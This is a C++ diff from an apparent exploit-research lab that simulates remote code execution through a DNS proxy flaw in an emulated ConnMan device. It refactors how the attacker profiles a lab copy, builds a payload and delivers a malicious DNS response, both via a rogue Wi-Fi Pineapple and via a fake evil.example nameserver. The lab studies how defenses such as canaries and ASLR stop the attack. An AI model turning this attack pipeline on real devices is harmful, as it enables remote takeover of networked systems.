@@ -1,8 +1,7 @@
 #include "src/attack/scenario.hpp"
 
-#include "src/dns/craft.hpp"
+#include "src/attack/battery.hpp"
 #include "src/dns/record.hpp"
-#include "src/exploit/profile.hpp"
 #include "src/loader/boot.hpp"
 #include "src/net/dns_client.hpp"
 #include "src/net/pineapple.hpp"
@@ -12,24 +11,6 @@
 namespace connlab::attack {
 
 namespace {
-
-/// Boots the attacker's lab copy (always the vulnerable build — that is
-/// what the attacker studies) and extracts the target profile.
-util::Result<exploit::TargetProfile> LabExtract(const ScenarioConfig& config,
-                                                int* probes) {
-  CONNLAB_ASSIGN_OR_RETURN(
-      auto lab,
-      loader::Boot(config.arch, config.prot, config.local_seed, config.exec));
-  connman::DnsProxy lab_proxy(*lab, connman::Version::k134);
-  exploit::ProfileExtractor extractor(*lab, lab_proxy);
-  CONNLAB_ASSIGN_OR_RETURN(exploit::TargetProfile profile, extractor.Extract());
-  if (probes != nullptr) {
-    // Extraction always runs the probe loop; re-deriving the count keeps
-    // the extractor interface small.
-    *probes = static_cast<int>(lab_proxy.stats().responses);
-  }
-  return profile;
-}
 
 AttackResult BaseResult(const ScenarioConfig& config) {
   AttackResult result;
@@ -50,63 +31,59 @@ util::Result<std::unique_ptr<loader::System>> BootVictim(
                                      config.target_seed, config.exec);
 }
 
-/// What the victim actually boots with: base protections plus whatever the
-/// scenario's defense policy retrofits.
-loader::ProtectionConfig VictimProt(const ScenarioConfig& config) {
-  loader::ProtectionConfig prot = config.prot;
-  config.defense.Configure(prot);
-  return prot;
+/// The attacker's lab: a local copy of the stock `prot` firmware (always the
+/// vulnerable build — that is what the attacker studies) profiled into the
+/// scenario's volley. When the lab yields none (e.g. a stack canary defeats
+/// extraction), the result reads "no exploit" with the reason.
+std::optional<VolleyBattery> ArmAttacker(const ScenarioConfig& config,
+                                         AttackResult* result) {
+  auto battery =
+      BuildVolleyBattery(config.arch, config.prot, config.local_seed,
+                         {result->technique}, config.exec);
+  if (!battery.ok()) {
+    result->exploit_available = false;
+    result->detail = battery.status().message();
+    return std::nullopt;
+  }
+  result->exploit_available = true;
+  result->probes = battery.value().probes;
+  result->payload_bytes = battery.value().volleys[0].payload_bytes;
+  return std::move(battery).value();
 }
 
-void Classify(const connman::ProxyOutcome& outcome, AttackResult* result) {
+/// Reads the victim's outcome, and why the exploit missed given what the
+/// victim actually booted with: base protections plus whatever the
+/// scenario's defense policy retrofits.
+void Classify(const ScenarioConfig& config,
+              const connman::ProxyOutcome& outcome, AttackResult* result) {
   result->kind = outcome.kind;
   result->detail = outcome.detail;
   result->shell = outcome.kind == connman::ProxyOutcome::Kind::kShell;
   result->crash = outcome.kind == connman::ProxyOutcome::Kind::kCrash;
   result->guest_steps = outcome.stop.steps;
+  loader::ProtectionConfig victim_prot = config.prot;
+  config.defense.Configure(victim_prot);
+  result->failure =
+      exploit::DiagnoseFailure(result->technique, victim_prot, result->kind);
 }
 
 }  // namespace
 
 util::Result<AttackResult> RunControlledScenario(const ScenarioConfig& config) {
   AttackResult result = BaseResult(config);
+  std::optional<VolleyBattery> battery = ArmAttacker(config, &result);
+  if (!battery) return result;
+  const Volley& volley = battery->volleys[0];
+  result.labels = volley.labels;
+  result.response_bytes = volley.response_wire.size();
 
-  auto profile = LabExtract(config, &result.probes);
-  if (!profile.ok()) {
-    // e.g. stack canary present: extraction itself is defeated.
-    result.exploit_available = false;
-    result.detail = profile.status().message();
-    return result;
-  }
-
-  exploit::ExploitGenerator generator(profile.value());
-  auto image = generator.BuildImage(result.technique);
-  if (!image.ok()) {
-    result.exploit_available = false;
-    result.detail = image.status().message();
-    return result;
-  }
-  result.payload_bytes = image.value().size();
-  CONNLAB_ASSIGN_OR_RETURN(dns::LabelSeq labels,
-                           dns::CutIntoLabels(image.value()));
-  result.labels = labels.size();
-  result.exploit_available = true;
-
-  // The victim: a different boot (fresh ASLR draw, fresh canary), hardened
-  // with whatever the scenario's defense policy retrofits.
+  // The victim: a different boot (fresh ASLR draw, fresh canary).
   CONNLAB_ASSIGN_OR_RETURN(auto target, BootVictim(config));
   connman::DnsProxy proxy(*target, config.version);
-
-  dns::Message query = dns::Message::Query(0x7E57, "target.device.lan");
-  CONNLAB_ASSIGN_OR_RETURN(util::Bytes qwire, dns::Encode(query));
-  CONNLAB_ASSIGN_OR_RETURN(util::Bytes fwd, proxy.AcceptClientQuery(qwire));
-  dns::Message evil = dns::MaliciousAResponse(query, std::move(labels));
-  CONNLAB_ASSIGN_OR_RETURN(util::Bytes rwire, dns::Encode(evil));
-  result.response_bytes = rwire.size();
-
-  Classify(proxy.HandleServerResponse(rwire), &result);
-  result.failure =
-      exploit::DiagnoseFailure(result.technique, VictimProt(config), result.kind);
+  CONNLAB_ASSIGN_OR_RETURN(util::Bytes fwd,
+                           proxy.AcceptClientQuery(battery->query_wire));
+  (void)fwd;
+  Classify(config, proxy.HandleServerResponse(volley.response_wire), &result);
   return result;
 }
 
@@ -144,24 +121,10 @@ util::Result<RemoteResult> RunPineappleScenario(const ScenarioConfig& config) {
       victim.outcomes().back().kind == connman::ProxyOutcome::Kind::kParsedOk;
 
   // --- The attacker ---------------------------------------------------------
-  auto profile = LabExtract(config, &remote.attack.probes);
-  if (!profile.ok()) {
-    remote.attack.exploit_available = false;
-    remote.attack.detail = profile.status().message();
-    return remote;
-  }
-  exploit::ExploitGenerator generator(profile.value());
-  auto image = generator.BuildImage(remote.attack.technique);
-  if (!image.ok()) {
-    remote.attack.exploit_available = false;
-    remote.attack.detail = image.status().message();
-    return remote;
-  }
-  remote.attack.payload_bytes = image.value().size();
-  remote.attack.exploit_available = true;
-
+  std::optional<VolleyBattery> battery = ArmAttacker(config, &remote.attack);
+  if (!battery) return remote;
   net::Pineapple pineapple("HomeWiFi", /*signal_dbm=*/-30);
-  pineapple.Arm(profile.value(), remote.attack.technique);
+  pineapple.Arm(battery->volleys[0].label_seq);
   pineapple.PowerOn(radio, network);
 
   // The victim roams to the stronger beacon; DHCP renumbers it onto the
@@ -181,9 +144,7 @@ util::Result<RemoteResult> RunPineappleScenario(const ScenarioConfig& config) {
                            pineapple.dns().last_error();
     return remote;
   }
-  Classify(victim.outcomes().back(), &remote.attack);
-  remote.attack.failure = exploit::DiagnoseFailure(
-      remote.attack.technique, VictimProt(config), remote.attack.kind);
+  Classify(config, victim.outcomes().back(), &remote.attack);
   remote.attack.response_bytes =
       network.log().empty() ? 0 : network.log().back().payload.size();
   return remote;
@@ -212,23 +173,10 @@ util::Result<LureResult> RunLureScenario(const ScenarioConfig& config) {
 
   // The attacker's infrastructure: the authoritative server for
   // evil.example, armed with the exploit.
-  auto profile = LabExtract(config, &result.attack.probes);
-  if (!profile.ok()) {
-    result.attack.exploit_available = false;
-    result.attack.detail = profile.status().message();
-    return result;
-  }
-  exploit::ExploitGenerator generator(profile.value());
-  auto image = generator.BuildImage(result.attack.technique);
-  if (!image.ok()) {
-    result.attack.exploit_available = false;
-    result.attack.detail = image.status().message();
-    return result;
-  }
-  result.attack.payload_bytes = image.value().size();
-  result.attack.exploit_available = true;
+  std::optional<VolleyBattery> battery = ArmAttacker(config, &result.attack);
+  if (!battery) return result;
   net::FakeDnsServer evil_ns("203.0.113.66", net::FakeDnsServer::Mode::kDos);
-  evil_ns.Arm(profile.value(), result.attack.technique);
+  evil_ns.Arm(battery->volleys[0].label_seq);
   network.Attach(evil_ns.ip(), &evil_ns);
   resolver.AddDelegation("evil.example", evil_ns.ip());
 
@@ -244,9 +192,7 @@ util::Result<LureResult> RunLureScenario(const ScenarioConfig& config) {
     result.attack.detail = "no response processed; " + evil_ns.last_error();
     return result;
   }
-  Classify(victim.outcomes().back(), &result.attack);
-  result.attack.failure = exploit::DiagnoseFailure(
-      result.attack.technique, VictimProt(config), result.attack.kind);
+  Classify(config, victim.outcomes().back(), &result.attack);
   return result;
 }
 
